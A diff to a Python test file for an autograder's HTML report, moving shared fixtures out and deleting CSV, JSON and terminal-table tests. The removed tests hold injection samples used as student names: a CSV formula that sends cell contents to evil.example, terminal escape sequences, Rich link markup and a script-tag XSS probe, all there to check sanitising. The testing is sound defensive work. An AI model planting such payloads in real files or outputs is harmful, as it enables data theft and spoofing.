@@ -1,10 +1,12 @@
-"""What an instructor reads: the HTML report, the CSV and JSON, the terminal table, `workbook report`."""
+"""What an instructor reads in a browser: the HTML report, and `workbook report`, which re-exports from the store.
+
+The CSV, the JSON and the terminal table are tested in test_gradebook.py, from the same class
+(tests/support/gradebooks.py).
+"""
 
 from __future__ import annotations
 
-import csv
 import html as markup
-import io
 import json
 import os
 import re
@@ -12,42 +14,28 @@ import unicodedata
 from html.parser import HTMLParser
 
 import pytest
-from rich.console import Console
 from typer.testing import CliRunner
 
 from autograder import results as model
 from autograder.cli import app
 from autograder.grading.store import Store
-from autograder.outputs import gradebook, report
+from autograder.outputs import report
 from autograder.results import ItemResult, SubmissionResult
 from tests.conftest import COURSE
+from tests.support.gradebooks import (
+    FIRST,
+    HOSTILE,
+    ISOLATION,
+    ISOLATION_LINE,
+    ITEMS,
+    OTHER,
+    chosen_names,
+    class_results,
+    item,
+)
 from tests.support.timing import promptly
 
 runner = CliRunner()
-FIRST = COURSE.items[0]
-OTHER = next(i for i in COURSE.items if i.section != FIRST.section)
-ITEMS = [FIRST, OTHER]
-HOSTILE = "<script>alert(1)</script>"
-
-
-def item(item_id: str, *outcomes: tuple[str, str], status: str = "graded", flags=(), message="") -> ItemResult:
-    tests = [model.TestResult(f"test_{n}", 5 if s == "passed" else 0, 5, s, m, task=n, description=f"check {n}")
-             for n, (s, m) in enumerate(outcomes, start=1)]
-    return ItemResult.from_tests(item_id, 5 * len(outcomes), tests, status, message, list(flags))
-
-
-def class_results() -> list[SubmissionResult]:
-    return [
-        SubmissionResult("alice", [item(FIRST.id, ("passed", ""), ("passed", "")),
-                                   item(OTHER.id, ("passed", ""))]),
-        SubmissionResult("bob", [item(FIRST.id, ("passed", ""), ("failed", "only 1 of 3 in flight")),
-                                 item(OTHER.id, ("failed", "expected 422, got 200"))]),
-        SubmissionResult(HOSTILE, [item(FIRST.id, ("failed", "only 1 of 3 in flight"),
-                                        ("failed", "only 1 of 3 in flight"),
-                                        flags=["canary passed: the reporting was tampered with"]),
-                                   item(OTHER.id, ("error", f"ValueError: {HOSTILE}"), status="import_error",
-                                        message="NameError: name 'app' is not defined")]),
-    ]
 
 
 class Page(HTMLParser):
@@ -196,6 +184,19 @@ def summaries(html: str) -> list[str]:
     return [" ".join(markup.unescape(s).split()) for s in re.findall(r"<summary[^>]*>(.*?)</summary>", html, re.DOTALL)]
 
 
+def starts_with_a_name(row: list[tuple[dict, str]]) -> bool:
+    return "name" in row[0][0].get("class", "").split()
+
+
+def parents_of(parsed: Page, table: str) -> list[list[str]]:
+    """The open elements around each table of that id or class."""
+    return [parents for name, parents in parsed.table_parents if name == table]
+
+
+def scrolling_both_ways(parsed: Page) -> list[dict]:
+    return [attrs for tag, attrs in parsed.tags if tag == "div" and "both" in attrs.get("class", "")]
+
+
 def test_the_name_column_and_the_header_row_stick(page):
     """Scrolled across 41 items, the names stay in view; scrolled down, the item ids do."""
     html, parsed = page
@@ -207,11 +208,11 @@ def test_the_name_column_and_the_header_row_stick(page):
     assert rules["#score-table thead th.name"]["z-index"] > name["z-index"]  # the corner covers both
     # Every row's first cell is the name cell, the header's too (it spans the item ids' row).
     header, _, *rows = parsed.rows["score-table"]
-    assert all("name" in row[0][0].get("class", "").split() for row in (header, *rows))
+    assert all(starts_with_a_name(row) for row in (header, *rows))
     assert header[0][0]["rowspan"] == "2"
     # A sticky cell sticks within its nearest scrolling box: the table's own, scrolling both ways.
-    (parents,) = [p for table, p in parsed.table_parents if table == "score-table"]
-    box = [attrs for tag, attrs in parsed.tags if tag == "div" and "both" in attrs.get("class", "")]
+    (parents,) = parents_of(parsed, "score-table")
+    box = scrolling_both_ways(parsed)
     assert parents[-1] == "div" and len(box) == 1 and rules[".scroll.both"]["overflow"] == "auto"
     assert rules[".scroll.both"]["max-height"].endswith("vh")
 
@@ -235,19 +236,29 @@ def a_class_with_a_missing_file() -> list[SubmissionResult]:
                                       item(OTHER.id, ("passed", ""))])]
 
 
+def item_row(parsed: Page, item_id: str) -> dict[str, str]:
+    """The Items table's row of one item, by column."""
+    header, *rows = parsed.rows["item-table"]
+    columns = [text for _, text in header]
+    return dict(zip(columns, [text for _, text in next(r for r in rows if r[0][1] == item_id)]))
+
+
+def failure_rows(parsed: Page) -> list[list[tuple[dict, str]]]:
+    """Every failure table's rows but their headers, in order."""
+    return [row for row in parsed.rows["test-table"] if row and row[0][1] != "test"]
+
+
 def test_a_missing_file_is_counted_apart_and_alike_in_both_places():
     """The rule on the page: submitted = the file was there; missing is counted apart."""
     html = report.render_html(COURSE, a_class_with_a_missing_file(), ITEMS)
     parsed = Page()
     parsed.feed(html)
     assert report.COUNTING in markup.unescape(html)
-    header, *rows = parsed.rows["item-table"]
-    columns = [text for _, text in header]
-    first = dict(zip(columns, [text for _, text in next(r for r in rows if r[0][1] == FIRST.id)]))
+    first = item_row(parsed, FIRST.id)
     # alice, bob and dave had the file (dave's ran no test); carol did not.
     assert (first["submitted"], first["missing"], first["import error"]) == ("3", "1", "1")
     assert first["full marks"] == "33%" and first["mean score"] == "50%"  # alice; (10 + 5 + 0) of 3 × 10 points
-    failed = [row[1][1] for row in parsed.rows["test-table"] if row and row[0][1] != "test"][:2]
+    failed = [row[1][1] for row in failure_rows(parsed)][:2]
     assert failed == ["1/3", "2/3"]  # out of the 3 submitted, as the Items table says: dave failed both
     summary, _ = summaries(html)
     assert summary.endswith("— 2 of 3 submitted failed a test; most often <code>test_2</code> (2×); 1 missing")
@@ -267,59 +278,6 @@ def test_statistics():
 
 def test_an_empty_class_renders():
     assert "0 submissions" in report.render_html(COURSE, [], ITEMS)
-
-
-# --- CSV, JSON and the terminal table ---------------------------------------------------
-
-def test_csv_lists_the_flagged_items(tmp_path):
-    results = class_results()
-    results[1].items[1].flags.append("read the hidden suite")
-    results[2].items[1].flags.append("started a process")
-    gradebook.write_csv(results, ITEMS, tmp_path / "g.csv")
-    rows = list(csv.reader((tmp_path / "g.csv").read_text(encoding="utf-8").splitlines()))
-    assert rows[0] == ["submission", FIRST.id, OTHER.id, "total", "max_score", "flags"]
-    assert [r[-1] for r in rows[1:]] == ["", OTHER.id, f"{FIRST.id};{OTHER.id}"]
-
-
-def test_json_carries_the_flags(tmp_path):
-    gradebook.write_json(class_results(), tmp_path / "r.json")
-    data = json.loads((tmp_path / "r.json").read_text())
-    assert data["version"] == 1
-    assert data["submissions"][2]["items"][0]["flags"] == ["canary passed: the reporting was tampered with"]
-    assert data["submissions"][0]["items"][0]["flags"] == []
-
-
-def render(results, items, width=80, isolation=None) -> str:
-    console = Console(width=width, record=True, file=open("/dev/null", "w"))  # noqa: SIM115
-    gradebook.print_table(COURSE, results, items, console, isolation)
-    console.file.close()
-    return console.export_text()
-
-
-def test_the_table_keeps_item_columns_when_they_fit():
-    text = render(class_results(), ITEMS)
-    assert FIRST.id.split("_")[0] in text and "subtotals" not in text
-    assert "⚑" in text and "flagged" in text
-    assert max(len(line) for line in text.splitlines()) <= 80
-
-
-def test_the_table_shows_section_subtotals_when_items_do_not_fit():
-    items = list(COURSE.items)
-    results = [SubmissionResult(name, [ItemResult(i.id, i.points if n % 2 else 0, i.points, "graded",
-                                                  flags=["x"] if name == "bob" and n == 3 else [])
-                                       for n, i in enumerate(items)]) for name in ("alice", "bob")]
-    text = render(results, items)
-    assert "subtotals by section" in text
-    assert max(len(line) for line in text.splitlines()) <= 80
-    for section in COURSE.sections:
-        points = sum(i.points for i in items if i.section == section.id)
-        assert section.id in text and f"/{points}" in text
-    bob = next(line for line in text.splitlines() if "bob" in line)
-    assert f"⚑ {items[3].id.split('_')[0]}" in bob
-    alice = next(line for line in text.splitlines() if "alice" in line)
-    assert "⚑" not in alice
-    wide = render(results, items, width=1000)
-    assert "subtotals" not in wide and items[-1].id.split("_")[0] in wide
 
 
 # --- workbook report ------------------------------------------------------------------------
@@ -368,65 +326,6 @@ def test_report_without_results_is_one_line(tmp_path, make):
 
 
 # --- names and messages a student chose -----------------------------------------------------
-
-FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"see")'
-ESCAPES = "\x1b]0;pwned\x07\x1b[2Jmallory\x1b[31m"
-MARKUP = "[link=https://evil.example]x[/link]"
-ISOLATION = {"requested": "auto", "level": "partial", "layers": {"seccomp": "on"},
-             "missing": {"landlock": "the kernel has none"}}
-ISOLATION_LINE = "isolation: partial (seccomp; --isolation auto); missing: landlock (the kernel has none)"
-
-
-def chosen_names() -> list[SubmissionResult]:
-    message = f"ValueError: {ESCAPES} [bold]boom[/bold]\nsecond line"
-    return [SubmissionResult(FORMULA, [item(FIRST.id, ("passed", ""), ("failed", message))]),
-            SubmissionResult(ESCAPES, [item(FIRST.id, ("passed", ""), ("passed", ""), flags=[f"flag {ESCAPES}"])]),
-            SubmissionResult(MARKUP, [item(FIRST.id, ("failed", "-1+2"), ("passed", ""))]),
-            SubmissionResult("+tab\tbed", [item(FIRST.id, ("passed", ""), ("passed", ""))])]
-
-
-def test_csv_cells_are_never_formulas(tmp_path):
-    gradebook.write_csv(chosen_names(), [FIRST], tmp_path / "g.csv")
-    rows = list(csv.reader((tmp_path / "g.csv").read_text(encoding="utf-8").splitlines()))
-    assert [r[0] for r in rows[1:]] == ["'" + FORMULA, "mallory", MARKUP, "'+tab bed"]
-    assert rows[2][-1] == FIRST.id  # the flagged item's id, as before
-
-
-def test_json_names_and_messages_hold_no_control_character(tmp_path):
-    gradebook.write_json(chosen_names(), tmp_path / "r.json")
-    data = json.loads((tmp_path / "r.json").read_text())
-    assert [s["submission"] for s in data["submissions"]] == [FORMULA, "mallory", MARKUP, "+tab bed"]
-    assert data["submissions"][0]["items"][0]["tests"][1]["message"] == \
-        "ValueError: mallory [bold]boom[/bold] second line"
-    assert data["submissions"][1]["items"][0]["flags"] == ["flag mallory"]
-    assert set(data) == {"version", "submissions"}  # no isolation record given: no key
-
-
-def test_json_carries_an_isolation_record_only_when_given(tmp_path):
-    gradebook.write_json(class_results(), tmp_path / "r.json", isolation=ISOLATION)
-    data = json.loads((tmp_path / "r.json").read_text())
-    assert data["isolation"] == ISOLATION and data["version"] == 1
-    del data["isolation"]
-    gradebook.write_json(class_results(), tmp_path / "plain.json")
-    assert data == json.loads((tmp_path / "plain.json").read_text())  # otherwise version 1 unchanged
-
-
-def test_the_terminal_shows_names_as_written_and_no_escape_sequence():
-    terminal = io.StringIO()
-    console = Console(file=terminal, force_terminal=True, width=200, color_system="truecolor")
-    gradebook.print_table(COURSE, chosen_names(), [FIRST], console, isolation=ISOLATION)
-    shown = terminal.getvalue()
-    assert "pwned" not in shown and "\x1b]" not in shown and "\x1b[2J" not in shown and "\t" not in shown
-    text = render(chosen_names(), [FIRST], width=200, isolation=ISOLATION)
-    assert MARKUP in text and FORMULA in text and "mallory" in text
-    assert text.rstrip().splitlines()[-1] == ISOLATION_LINE
-
-
-def test_the_section_table_shows_names_as_written():
-    results = [SubmissionResult(MARKUP, [ItemResult(i.id, i.points, i.points, "graded") for i in COURSE.items])]
-    text = render(results, list(COURSE.items), width=140)  # too narrow for 38 items, wide enough for the name
-    assert "subtotals by section" in text and MARKUP in text
-
 
 def test_the_page_holds_no_control_character_and_the_isolation_line():
     html = report.render_html(COURSE, chosen_names(), [FIRST], isolation=ISOLATION)
